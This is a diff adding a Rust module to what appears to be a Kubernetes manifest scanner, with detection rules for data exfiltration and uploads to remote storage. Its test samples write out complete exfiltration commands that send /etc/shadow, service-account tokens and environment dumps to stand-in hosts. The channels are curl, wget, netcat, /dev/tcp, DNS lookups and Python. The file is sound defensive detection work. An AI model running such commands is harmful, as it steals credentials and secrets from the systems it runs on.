@@ -1,0 +1,313 @@
+//! Data that is sent away.
+
+use super::fetch::is_downloader;
+use super::secrets::reads_secret;
+use super::shells::{is_netcat, only_probes};
+use super::url::{Reach, target};
+use super::words::{has, option, subcommand, words};
+use super::{COMMAND, Facts, Rule, Sample, Severity, Weight, each_match};
+use crate::detect::files::uploaded;
+use crate::detect::findings::Collector;
+use crate::detect::runs::Run;
+use crate::detect::{code, code_strings};
+use crate::normalize::Invocation;
+use crate::normalize::exec::is_shell;
+
+pub(super) static RULES: &[Rule] = &[
+    Rule {
+        id: "cmd-exfil",
+        message: "sends files or secrets to a host outside",
+        meaning: "A file, a token or the environment goes to a host that is not in the cluster. Where it goes to a public \
+                  address or a drop, or where it is a secret, it weighs 40; other files to a named host weigh 15.",
+        false_positives: "Uploads of backups and build results.",
+        severity: Severity::Medium,
+        points: 40,
+        techniques: &["T1041", "T1048"],
+        check: exfiltrates,
+        samples: &[
+            Sample::Hit(
+                40,
+                "containers: [{name: a, command: [curl, -T, /data/dump.tgz, 'http://203.0.113.5/']}]",
+            ),
+            Sample::Hit(
+                40,
+                "containers: [{name: a, command: [sh, -c, 'tar cz /data | curl --data-binary @- https://transfer.sh/x']}]",
+            ),
+            Sample::Hit(
+                40,
+                "containers: [{name: a, command: [wget, --post-file=/etc/shadow, 'https://x.example.test/']}]",
+            ),
+            Sample::Hit(
+                40,
+                "containers: [{name: a, command: [sh, -c, 'cat /run/secrets/kubernetes.io/serviceaccount/token | nc 203.0.113.5 88']}]",
+            ),
+            Sample::Hit(
+                40,
+                "containers: [{name: a, command: [sh, -c, 'curl \"https://x.example.test/?t=$(cat /run/secrets/kubernetes.io/serviceaccount/token)\"']}]",
+            ),
+            Sample::Hit(
+                40,
+                "containers: [{name: a, command: [sh, -c, 'env | base64 | curl -d @- https://x.example.test']}]",
+            ),
+            Sample::Hit(
+                40,
+                "containers: [{name: a, command: [sh, -c, 'for c in $(xxd -p /etc/shadow); do nslookup $c.x.example.test; done']}]",
+            ),
+            Sample::Hit(
+                40,
+                "containers: [{name: a, command: [bash, -c, 'cat /etc/shadow > /dev/tcp/203.0.113.5/80']}]",
+            ),
+            Sample::Hit(
+                40,
+                "containers: [{name: a, command: [python3, -c, 'from urllib.request import urlopen; urlopen(\"http://203.0.113.5/\", data=open(\"/data/x\",\"rb\").read())']}]",
+            ),
+            Sample::Hit(
+                15,
+                "containers: [{name: a, command: [curl, -F, 'file=@/out/report.pdf', 'https://files.example.test/up']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [curl, -XPUT, 'http://elasticsearch:9200/_snapshot/s/x', -d, '{\"indices\":\"*\"}']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'cat /m | curl --data-binary @- http://pushgateway:9091/metrics/job/x']}]",
+            ),
+            Sample::Miss("containers: [{name: a, command: [sh, -c, 'echo ruok | nc zk 2181']}]"),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'T=$(cat /run/secrets/kubernetes.io/serviceaccount/token); curl -H \"Authorization: Bearer $T\" https://kubernetes.default.svc/api']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [curl, -d, 'status=ok', 'https://hc.example.test/ping/1']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'openssl s_client -connect api.example.test:443 < /dev/null']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'nslookup $HOSTNAME.shop.svc.cluster.local']}]",
+            ),
+        ],
+        ..COMMAND
+    },
+    Rule {
+        id: "cmd-upload-tool",
+        message: "copies data with a tool for remote storage",
+        meaning: "The tools are made for backups, and are what intruders bring to take data along.",
+        false_positives: "Backups.",
+        severity: Severity::None,
+        points: 8,
+        techniques: &["T1567.002"],
+        check: |facts, found| each_match(facts, found, |_, _, invocation| uploads_with_tool(invocation)),
+        samples: &[
+            Sample::Hit(8, "containers: [{name: a, command: [rclone, sync, /data, 'remote:bucket']}]"),
+            Sample::Hit(8, "containers: [{name: a, command: [scp, /data/x, 'u@backup.example.test:/x']}]"),
+            Sample::Miss("containers: [{name: a, command: [rsync, -a, /src/, /dst/]}]"),
+            Sample::Miss("containers: [{name: a, command: [rclone, version]}]"),
+        ],
+        ..COMMAND
+    },
+];
+
+const FULL: Weight = (Severity::Medium, 40);
+const ORDINARY: Weight = (Severity::Low, 15);
+
+fn exfiltrates(facts: &Facts<'_>, found: &mut Collector<'_>) {
+    for run in &facts.runs {
+        if !run.execution.commands.iter().any(may_send) {
+            continue;
+        }
+        let reads = reads_secret(facts, run);
+        let of_env = |invocation: &Invocation| {
+            matches!(invocation.program.as_str(), "env" | "printenv") && invocation.args.is_empty()
+                || matches!(invocation.program.as_str(), "kubectl" | "oc")
+                    && subcommand(invocation, &["secret", "secrets"])
+        };
+        let starts: Vec<*const Invocation> = run
+            .invocations()
+            .filter(|(at, invocation)| reads.get(*at) == Some(&true) || of_env(invocation))
+            .map(|(_, invocation)| std::ptr::from_ref(invocation))
+            .collect();
+        let is_secret =
+            |invocation: &Invocation| starts.binary_search(&std::ptr::from_ref(invocation)).is_ok();
+        let fed = run.fed(is_secret);
+        let mut heaviest: Option<(usize, Weight)> = None;
+        for (at, invocation) in run.invocations().filter(|(_, invocation)| may_send(invocation)) {
+            let secret = fed.get(at) == Some(&true) || reads.get(at) == Some(&true);
+            if let Some(weight) = weigh(run, invocation, secret)
+                && heaviest.is_none_or(|(_, known)| known.1 < weight.1)
+            {
+                heaviest = Some((at, weight));
+            }
+        }
+        if let Some((at, (severity, points))) = heaviest {
+            let evidence = run.show_flow(at, is_secret);
+            found.hit_as(severity, points, Some(&run.container.name), run.path(), &evidence);
+        }
+    }
+}
+
+fn may_send(invocation: &Invocation) -> bool {
+    is_downloader(invocation)
+        || is_netcat(&invocation.program)
+        || matches!(invocation.program.as_str(), "nslookup" | "dig" | "host" | "ping" | "openssl" | "telnet")
+        || code::text(invocation).is_some_and(code::fetches)
+        || invocation.redirects.iter().any(|redirect| redirect.target.text.starts_with("/dev/tcp/"))
+        || uploads_with_tool(invocation)
+}
+
+fn weigh(run: &Run<'_>, invocation: &Invocation, secret: bool) -> Option<Weight> {
+    if is_downloader(invocation) {
+        return by_http(invocation, secret);
+    }
+    if let Some(code) = code::text(invocation) {
+        return by_code(code, secret);
+    }
+    if uploads_with_tool(invocation) {
+        return secret.then_some(FULL);
+    }
+    let socket =
+        invocation.redirects.iter().find_map(|redirect| redirect.target.text.strip_prefix("/dev/tcp/"));
+    if let Some(to) = socket {
+        // A shell there is another rule's; a line that is printed there is a probe.
+        let prints = matches!(invocation.program.as_str(), "echo" | "printf" | ":" | "exec" | "true" | "")
+            || is_shell(&invocation.program);
+        return weigh_reach(target(to)?.reach(), secret, !prints);
+    }
+    match invocation.program.as_str() {
+        "nslookup" | "dig" | "host" | "ping" => by_name(run, invocation, secret),
+        program if is_netcat(program) || matches!(program, "telnet" | "openssl") => {
+            if only_probes(invocation) {
+                return None;
+            }
+            let to = match option(invocation, &["-connect"]) {
+                Some(to) => to,
+                None => words(invocation).find(|word| {
+                    !word.starts_with('-') && word.contains(['.', '$', ':']) || word.starts_with('$')
+                })?,
+            };
+            weigh_reach(target(to)?.reach(), secret, sends_file(run, invocation))
+        }
+        _ => None,
+    }
+}
+
+/// What a file or a secret weighs where it goes.
+fn weigh_reach(reach: Reach, secret: bool, file: bool) -> Option<Weight> {
+    match reach {
+        Reach::Drop | Reach::Address if file || secret => Some(FULL),
+        Reach::Named | Reach::Unknown if secret => Some(FULL),
+        Reach::Named if file => Some(ORDINARY),
+        _ => None,
+    }
+}
+
+/// Whether a stream tool is given more than a line that is printed.
+fn sends_file(run: &Run<'_>, invocation: &Invocation) -> bool {
+    use crate::normalize::RedirectOp;
+    let from_file = invocation
+        .redirects
+        .iter()
+        .any(|redirect| redirect.op == RedirectOp::In && redirect.target.text != "/dev/null");
+    let sources: Vec<&Invocation> = invocation
+        .inputs
+        .iter()
+        .flat_map(|span| span.indices())
+        .take(64)
+        .filter_map(|at| run.invocation(at))
+        .collect();
+    // What a shell says there is the shell's: another rule.
+    if sources.iter().any(|source| is_shell(&source.program)) {
+        return false;
+    }
+    from_file
+        || sources.iter().any(|source| {
+            matches!(
+                source.program.as_str(),
+                "cat"
+                    | "tar"
+                    | "gzip"
+                    | "zip"
+                    | "base64"
+                    | "xxd"
+                    | "dd"
+                    | "env"
+                    | "printenv"
+                    | "ps"
+                    | "find"
+                    | "cpio"
+            )
+        })
+}
+
+fn by_http(invocation: &Invocation, secret: bool) -> Option<Weight> {
+    let sends_file = option(invocation, &["-T", "--upload-file", "--post-file", "--body-file"]).is_some()
+        || words(invocation)
+            .any(|word| uploaded(word).is_some() || matches!(word, "@-" | "-d@-") || word.ends_with("=@-"));
+    if !secret && !sends_file {
+        return None;
+    }
+    let urls = words(invocation)
+        .filter(|word| word.contains("://") || word.contains('.') && !word.starts_with(['-', '@', '/']));
+    let weights = urls.take(64).filter_map(|url| {
+        let place = target(url)?;
+        // The token is for the API server, the kubelet, or a login with it (Vault, clouds).
+        let is_login =
+            ["/login", "/oauth2", "/auth/", "/v1/token"].iter().any(|part| place.path.contains(part));
+        let is_api = place.host.contains("KUBERNETES") || place.host.starts_with("kubernetes");
+        let in_url = url.contains("$()") || sends_file;
+        match place.reach() {
+            _ if is_api => None,
+            // A header with a token goes to an API; where it is only known at run time, so does the token.
+            Reach::Unknown if !in_url => None,
+            Reach::Named if secret && is_login => Some(ORDINARY),
+            reach => weigh_reach(reach, secret, sends_file),
+        }
+    });
+    weights.max_by_key(|weight| weight.1)
+}
+
+fn by_code(code: &str, secret: bool) -> Option<Weight> {
+    let sends_file =
+        code::any(code, &["data=open(", "files=", "data = open(", ".post(", ".put(", "createReadStream"])
+            && code::any(code, &["open(", "readFile", "createReadStream", "File.read", "os.environ"]);
+    let literals = code_strings::literals(code);
+    let hosts = literals.iter().filter(|text| text.contains("://")).filter_map(|text| target(text));
+    let weights = hosts.filter(|place| !place.host.starts_with("kubernetes"));
+    weights
+        .filter_map(|place| weigh_reach(place.reach(), secret && sends_file, sends_file))
+        .max_by_key(|weight| weight.1)
+}
+
+/// Queries for names with data in them: `$chunk.attacker.example`.
+fn by_name(run: &Run<'_>, invocation: &Invocation, secret: bool) -> Option<Weight> {
+    let carries = words(invocation).any(|word| {
+        let label = word.split('.').next().unwrap_or_default();
+        label.starts_with('$') && target(word).is_some_and(|place| place.reach() == Reach::Named)
+    });
+    let encoded = || {
+        let sources = invocation
+            .inputs
+            .iter()
+            .flat_map(|span| span.indices())
+            .take(64)
+            .filter_map(|at| run.invocation(at));
+        sources.into_iter().any(|source| {
+            matches!(source.program.as_str(), "xxd" | "base64" | "base32" | "od" | "hexdump" | "fold")
+        })
+    };
+    (carries && (secret || encoded())).then_some(FULL)
+}
+
+/// Tools that copy to storage elsewhere, with a subcommand that does.
+fn uploads_with_tool(invocation: &Invocation) -> bool {
+    match invocation.program.as_str() {
+        "rclone" => subcommand(invocation, &["copy", "sync", "move", "copyto", "moveto", "rcat", "bisync"]),
+        "s3cmd" => subcommand(invocation, &["put", "sync"]),
+        "gsutil" => subcommand(invocation, &["cp", "rsync", "mv"]),
+        "azcopy" => subcommand(invocation, &["copy", "sync", "cp"]),
+        "mc" => subcommand(invocation, &["cp", "mirror", "pipe"]),
+        "lftp" | "ncftpput" | "megaput" | "ftp" | "sftp" | "tftp" => true,
+        "scp" | "rsync" => words(invocation)
+            .any(|word| word.contains(':') && !word.starts_with(['-', '/']) && !word.contains("://")),
+        "aws" => has(invocation, &["s3"]) && subcommand(invocation, &["cp", "sync", "mv"]),
+        _ => false,
+    }
+}
